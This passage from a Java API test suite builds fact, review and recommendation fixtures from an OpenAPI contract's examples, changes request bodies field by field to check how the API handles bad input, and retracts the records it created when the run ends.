        }
        try {
            RawHttp.Reply reply = RawHttp.send(RestAssured.port, request, 30_000);
            return new Answer(reply.status(), reply.header("Content-Type"), reply.body(), reply.headers());
        } catch (IOException e) {
            throw new IllegalStateException(method + " " + shorten(pathAndQuery) + " (" + framing + "): " + e, e);
        }
    }

    // ---------------------------------------------------------------- the facts the writes need

    /**
     * Editors' facts to write to, made from the claim example with the most citations (so that one of
     * them can be retracted), a new one whenever the last was retracted; every fact the suite adds is
     * retracted at the end. Made through the contract filter, so that a real creation is checked
     * against openapi.yaml request and response alike.
     */
    private final class Fixture {

        record Current(long id, String etag) {
        }

        final List<Long> created = Collections.synchronizedList(new ArrayList<>());
        final List<Long> recommendations = Collections.synchronizedList(new ArrayList<>());
        int setupRequests;
        private long review = -1;
        private long recommendation = -1;
        private long fact = -1;
        private Answer read;

        Current fact() {
            Answer current = current(false);
            return new Current(fact, current.header("ETag"));
        }

        /** The names of the fixture fact's claim fields. */
        Set<String> claimFields() {
            Set<String> names = new LinkedHashSet<>();
            tree(current(false)).get("claim").fieldNames().forEachRemaining(names::add);
            return names;
        }

        /** The last citation of a fact that has another. */
        Current citation() {
            JsonNode provenance = tree(current(true)).get("provenance");
            return new Current(provenance.get(provenance.size() - 1).get("citation_id").asLong(), read.header("ETag"));
        }

        /**
         * An editor's recommendation, read afresh (a write may have changed or retracted it); a new one,
         * from the claim example, added to a review of the suite's own when there is none.
         */
        Current recommendation() {
            if (recommendation > 0) {
                setupRequests++;
                Answer answer = exchange("GET", "/api/v1/recommendations/" + recommendation, Map.of(), null, null, Framing.PLAIN);
                if (answer.status() == 200) {
                    return new Current(recommendation, answer.header("ETag"));
                }
            }
            if (review < 0) {
                setupRequests++;
                review = given().filter(Contract.FILTER).header("Authorization", "Bearer " + token)
                        .contentType("application/json").body(example("upr_review").toString()).post("/api/v1/claims")
                        .then().statusCode(201).extract().jsonPath().getLong("id");
                created.add(review);
            }
            ObjectNode claim = (ObjectNode) example("upr_recommendation").deepCopy();
            claim.put("review", review);
            claim.putArray("citations").addObject().put("source", SEED_ARTICLE)
                    .put("quote", "Le deuxième a été mené en février 2014");
            setupRequests++;
            Response response = given().filter(Contract.FILTER).header("Authorization", "Bearer " + token)
                    .contentType("application/json").body(claim.toString()).post("/api/v1/claims");
            assertEquals(201, response.statusCode(), "the fixture recommendation is added: " + response.asString());
            recommendation = response.jsonPath().getLong("id");
            recommendations.add(recommendation);
            return new Current(recommendation, response.header("ETag"));
        }

        /** A write may have changed the fact: read it again before the next case. */
        void changed() {
            read = null;
        }

        private Answer current(boolean twoCitations) {
            if (read == null && fact > 0) {
                setupRequests++;
                Answer answer = exchange("GET", "/api/v1/facts/" + fact, Map.of(), null, null, Framing.PLAIN);
                read = answer.status() == 200 ? answer : null;
            }
            if (read != null && (!twoCitations || tree(read).get("provenance").size() > 1)) {
                return read;
            }
            setupRequests++;
            Response response = given().filter(Contract.FILTER).header("Authorization", "Bearer " + token)
                    .contentType("application/json").body(claim()).post("/api/v1/claims");
            assertEquals(201, response.statusCode(), "the fixture claim is added: " + response.asString());
            fact = response.jsonPath().getLong("id");
            created.add(fact);
            read = new Answer(201, response.contentType(), response.asByteArray(),
                    Map.of("ETag", List.of(response.header("ETag"))));
            return read;
        }

        long idOf(Answer answer) {
            return tree(answer).get("id").asLong();
        }

        private JsonNode tree(Answer answer) {
            try {
                return json.readTree(answer.body());
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }

        private String claim() {
            JsonNode best = null;
            for (JsonNode example : claimExamples()) {
                if (best == null || example.get("citations").size() > best.get("citations").size()) {
                    best = example;
                }
            }
            return best.toString();
        }

        private JsonNode example(String kind) {
            return claimExamples().stream().filter(e -> e.get("kind").asText().equals(kind)).findFirst().orElseThrow();
        }

        private List<JsonNode> claimExamples() {
            JsonNode post = api.get("paths").get("/api/v1/claims").get("post");
            return examples(post.get("requestBody").get("content").get("application/json"));
        }

        /** Retracts every recommendation and fact the suite added that is still there (a review after its recommendations). */
        void retractAll() {
            for (long id : List.copyOf(recommendations)) {
                setupRequests++;
                Answer current = exchange("GET", "/api/v1/recommendations/" + id, Map.of(), null, null, Framing.PLAIN);
                if (current.status() == 200) {
                    setupRequests++;
                    given().filter(Contract.FILTER).header("Authorization", "Bearer " + token)
                            .header("If-Match", current.header("ETag")).queryParam("reason", "bad-input suite clean-up")
                            .delete("/api/v1/recommendations/" + id).then().statusCode(204);
                }
            }
            recommendations.clear();
            recommendation = -1;
            review = -1;
            for (long id : List.copyOf(created)) {
                setupRequests++;
                Answer current = exchange("GET", "/api/v1/facts/" + id, Map.of(), null, null, Framing.PLAIN);
                if (current.status() == 200) {
                    setupRequests++;
                    given().filter(Contract.FILTER).header("Authorization", "Bearer " + token)
                            .header("If-Match", current.header("ETag")).queryParam("reason", "bad-input suite clean-up")
                            .delete("/api/v1/facts/" + id).then().statusCode(204);
                }
            }
            created.clear();
            read = null;
            fact = -1;
        }
    }

    // ---------------------------------------------------------------- bodies from the contract

    /** The examples of a media type: its named examples' values, or its example. */
    private static List<JsonNode> examples(JsonNode mediaType) {
        List<JsonNode> found = new ArrayList<>();
        for (JsonNode example : iterable(mediaType.path("examples").elements())) {
            found.add(example.get("value"));
        }
        if (found.isEmpty() && mediaType.has("example")) {
            found.add(mediaType.get("example"));
        }
        return found;
    }

    /**
     * The base body of an operation: its example, except that a new source repeats a stored text
     * under a taken id, so that whatever one field says, no source is added (other tests count them).
     */
    private static ObjectNode baseBody(String op, ObjectNode example) throws IOException {
        if (op.equals("POST /api/v1/sources")) {
            example.put("id", SEED_ARTICLE);
            example.put("text", Files.readString(Path.of("seeds/articles/" + SEED_ARTICLE + ".txt")));
        }
        return example;
    }

    /** The schema of a body: its $ref followed, and of a oneOf the branch whose `kind` the body names. */
    private JsonNode schemaFor(JsonNode schema, JsonNode body) {
        JsonNode resolved = resolve(schema);
        if (!resolved.has("oneOf")) {
            return resolved;
        }
        for (JsonNode branch : resolved.get("oneOf")) {
            JsonNode candidate = resolve(branch);
            for (JsonNode kind : candidate.path("properties").path("kind").path("enum")) {
                if (kind.asText().equals(body.path("kind").asText())) {
                    return candidate;
                }
            }
        }
        return resolve(resolved.get("oneOf").get(0));
    }

    /**
     * JSON pointers of the fields to change: the body's and its schema's, and those of the first
     * object of each array (a claim's citations: once, in the first example that has them).
     */
    private List<String> pointers(ObjectNode body, JsonNode schema, Set<String> nestedDone) {
        List<String> pointers = new ArrayList<>();
        Set<String> names = new LinkedHashSet<>();
        body.fieldNames().forEachRemaining(names::add);
        schema.path("properties").fieldNames().forEachRemaining(names::add);
        for (String name : names) {
            pointers.add("/" + name);
            if (body.get(name) instanceof ArrayNode array && !array.isEmpty() && array.get(0).isObject()
                    && nestedDone.add(name)) {
                Set<String> nested = new LinkedHashSet<>();
                array.get(0).fieldNames().forEachRemaining(nested::add);
                resolve(schema.path("properties").path(name).path("items")).path("properties").fieldNames()
                        .forEachRemaining(nested::add);
                nested.forEach(n -> pointers.add("/" + name + "/0/" + n));
            }
        }
        return pointers;
    }

    /** The body with the field at {@code pointer} set to {@code value}, or left out. */
    private static byte[] mutate(ObjectNode body, String pointer, Value value) {
        ObjectNode copy = body.deepCopy();
        int cut = pointer.lastIndexOf('/');
        ObjectNode parent = (ObjectNode) (cut == 0 ? copy : copy.at(pointer.substring(0, cut)));
        String field = pointer.substring(cut + 1);
        String placeholder = "@@value@@";
        if (value.json() == null) {
            parent.remove(field);
            return copy.toString().getBytes(StandardCharsets.UTF_8);
        }
        parent.set(field, TextNode.valueOf(placeholder));
        return copy.toString().replace("\"" + placeholder + "\"", value.json()).getBytes(StandardCharsets.UTF_8);
    }

    /** The body with an unknown field in its first nested object, or null when it has none. */
    private static String unknownNested(ObjectNode body) {
        for (var field : body.properties()) {
            if (field.getValue() instanceof ArrayNode array && !array.isEmpty() && array.get(0).isObject()) {
                ObjectNode copy = body.deepCopy();
                ((ObjectNode) copy.get(field.getKey()).get(0)).put("unknown_field", 1);
                return copy.toString();
            }
        }
        return null;
    }

    private static String kindOf(JsonNode body) {
        return body.has("kind") ? " [" + body.get("kind").asText() + "]" : "";
    }

    private static byte[] bytes(JsonNode body) {
        return body.toString().getBytes(StandardCharsets.UTF_8);
    }

    private JsonNode resolve(JsonNode node) {
        while (node.has("$ref")) {
            JsonNode target = api;
            for (String part : node.get("$ref").asText().substring(2).split("/")) {
                target = target.get(part);
            }
            node = target;
        }
        return node;
    }

    // ---------------------------------------------------------------- small things

    private static String text(String value) {
        return TextNode.valueOf(value).toString();
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String shorten(String text) {
        return text == null ? "(missing)" : text.length() > 120 ? text.substring(0, 120) + "..." : text;
    }

    private static <T> Iterable<T> iterable(Iterator<T> iterator) {
        return () -> iterator;
    }
}
